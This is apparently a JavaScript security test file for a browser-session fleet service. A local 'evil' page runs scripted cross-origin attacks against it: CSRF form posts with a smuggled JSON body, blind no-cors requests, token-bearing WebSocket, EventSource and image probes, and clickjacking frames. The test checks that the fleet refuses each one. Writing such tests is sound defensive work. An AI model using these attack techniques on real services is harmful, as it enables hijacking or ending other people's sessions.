/** An attacking page of another origin that knows everything but the token, opened in different browsers. */
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before } from 'node:test';
import { startChromium } from './helpers/chromium.mjs';
import { attach, blankPage } from './helpers/playwright.mjs';
import { Server, test } from './helpers/server.mjs';
import { until } from './helpers/wait.mjs';

/** The page's attacks, run in a browser; each returns its result, or "nothing". */
const ATTACK = `<!doctype html><title>attack</title><script type="module">
  const parameters = new URLSearchParams(location.search);
  const [fleet, id, view, token] = ['fleet', 'id', 'view', 'token'].map((name) => parameters.get(name));
  const bearer = token ? '&access_token=' + token : '';
  const session = '/sessions/local/' + id;
  const soon = (promise) => Promise.race([promise, new Promise((end) => setTimeout(end, 4000, 'nothing'))]);
  const read = (path, options) => fetch(fleet + path, options).then((answer) => answer.text(), () => 'nothing');
  const blind = (path, options) => fetch(fleet + path, { mode: 'no-cors', ...options }).then(() => 'nothing', () => 'nothing');
  const socket = (path) => new Promise((end) => {
    const opened = new WebSocket(fleet.replace('http', 'ws') + path, path.includes('websockify') ? ['binary'] : []);
    opened.onopen = () => end('open');
    opened.onerror = () => end('nothing');
  });
  const form = (path, body) => {
    const element = document.createElement('form');
    Object.assign(element, { action: fleet + path, method: 'post', enctype: 'text/plain', target: 'hidden' });
    const field = Object.assign(document.createElement('input'), { name: body, value: '' });
    document.body.append(element);
    element.append(field);
    element.submit();
    return new Promise((end) => setTimeout(end, 500, 'nothing'));
  };
  const tries = {
    list: () => read('/sessions'),
    workers: () => read('/api/workers'),
    metrics: () => read('/metrics'),
    create: () => read('/sessions', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"headless":true}' }),
    blindCreate: () => blind('/sessions', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"headless":true}' }),
    blindEmptyCreate: () => blind('/sessions', { method: 'POST' }),
    formCreate: () => form('/sessions', '{"headless":true,"labels":{"a":"'),
    touch: () => blind(session + '/touch', { method: 'POST' }),
    end: () => read(session, { method: 'DELETE' }),
    drain: () => blind('/workers/local/drain', { method: 'POST' }),
    picture: () => new Promise((end) => {
      const image = new Image();
      image.onload = () => end('a picture');
      image.onerror = () => end('nothing');
      image.src = fleet + session + '/screenshot?a=1' + bearer;
    }),
    events: () => new Promise((end) => {
      const source = new EventSource(fleet + '/events?a=1' + bearer);
      source.onmessage = source.onopen = () => end('events');
      source.onerror = () => (source.close(), end('nothing'));
    }),
    attach: () => socket(session + '/ws?a=1' + bearer),
    watch: () => socket('/websockify?token=' + view + bearer),
    key: () => read('/websockify/view?token=' + view + bearer),
  };
  const got = {};
  for (const [name, attempt] of Object.entries(tries)) got[name] = await soon(attempt());
  await fetch('/got', { method: 'POST', body: JSON.stringify(got) });
</script><body><iframe name="hidden"></iframe>`;
const NOTHING = 'nothing';
/** Marks the test's own requests in the log. */
const OWN = 'of-the-test';

/** A site with the attack, a frame around a given URL, and the results of the attack. */
class Evil {
  got = [];

  constructor() {
    this.server = http.createServer(async (request, response) => {
      const { pathname, searchParams } = new URL(request.url, 'http://evil');
      if (pathname === '/got') this.got.push(JSON.parse(Buffer.concat(await request.toArray()).toString()));
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(pathname === '/frame' ? `<iframe src="${searchParams.get('of')}" width="800" height="600"></iframe>` : ATTACK);
    });
  }

  async open() {
    await new Promise((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${this.server.address().port}`;
    return this;
  }

  close() {
    this.server.closeAllConnections();
    this.server.close();
  }
}

let evil, server, victim, chromium;
before(async () => {
  [evil, chromium] = await Promise.all([new Evil().open(), startChromium()]);
  // With the egress open, so that the attacks reach the fleet at all: see egress-attack.test.mjs.
  server = await Server.start({ CONTROL_FRAME_ANCESTORS: `self, ${evil.url}`, RUNNER_EGRESS: 'open' });
  victim = await server.create({ vnc: true, start_url_wait: 'none' });
});
after(async () => {
  await Promise.all([server?.stop(), chromium?.close()]);
  evil?.close();
});

/** Runs the attack where `visit` opens it, and checks that the fleet revealed nothing. */
async function attacked(visit, { fleet = server, session = victim, token = '' } = {}) {
  const parameters = new URLSearchParams({ fleet: fleet.url, id: session.id, view: session.vnc_id, token });
  const [past, said] = [evil.got.length, fleet.logLines().length];
  await visit(`${evil.url}/?${parameters}`);
  const got = await until(() => evil.got[past], 'the attack to be over', 40_000);
  for (const [name, what] of Object.entries(got)) assert.equal(what, NOTHING, name);
  // Reads are logged at level debug; handshakes always.
  const lines = fleet.logLines().slice(said).filter((line) => !line.endsWith(OWN));
  const answered = lines.map((line) => / (?:GET|POST|DELETE|OPTIONS|WS) (\S+) (\d{3}) /.exec(line)).filter(Boolean);
  const attempts = answered.filter(([, path]) => path !== '/');
  assert.ok(attempts.length >= 10, fleet.log(said));
  for (const [line, , status] of attempts) assert.ok(['401', '403', '421'].includes(status), line);
  return got;
}

/** Only the test's own actions changed anything. */
async function isUntouched(sessions) {
  const live = await server.sessions();
  assert.deepEqual(live.map(({ id }) => id).sort(), sessions.map(({ id }) => id).sort());
  assert.equal((await server.read('/workers'))[0].draining, false);
}

test('a page opened by a start URL gets nothing from the fleet', async () => {
  let attacker;
  await attacked(async (url) => {
    attacker = await server.create({ headless: true, start_url: url }, { headers: { 'x-request-id': OWN } });
  });
  await isUntouched([victim, attacker]);
  await server.end(attacker);
});

test('a page opened by a Playwright client gets nothing from the fleet, even with the right token', async () => {
  const guarded = await Server.start({ CONTROL_API_TOKEN: 's3cret' });
  try {
    const headers = { authorization: 'Bearer s3cret' };
    const target = await guarded.create({ vnc: true, start_url_wait: 'none' }, { headers });
    const attacker = await server.create({ headless: true });
    const client = await attach(server, attacker);
    const page = await blankPage(client);
    await attacked((url) => page.goto(url), { fleet: guarded, session: target, token: 's3cret' });
    assert.equal((await guarded.request('GET', '/sessions', { headers })).json.length, 1);
    await client.close();
    await server.end(attacker);
    await guarded.stop();
  } finally {
    guarded.discard();
  }
});

test('a page in the operator’s own browser gets nothing from the fleet', async () => {
  const page = await chromium.newPage();
  await attacked((url) => page.goto(url));
  await isUntouched([victim]);
  await page.close();
});

test('a live view can be framed by listed origins only', async () => {
  const other = await new Evil().open();
  const page = await chromium.newPage();
  const shown = `${server.url}${victim.vnc.http}`;
  const frameOf = async (site, address) => {
    await page.goto(`${site.url}/frame?of=${encodeURIComponent(address)}`);
    return page.frames()[1];
  };
  await (await frameOf(evil, shown)).locator('#live[data-state=connected]').waitFor();
  for (const address of [shown, `${server.url}/`]) {
    const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
    const frame = await frameOf(other, address);
    await refused;
    assert.equal(await frame.locator('#live, #root').count(), 0, address);
  }
  await page.close();
  other.close();
});
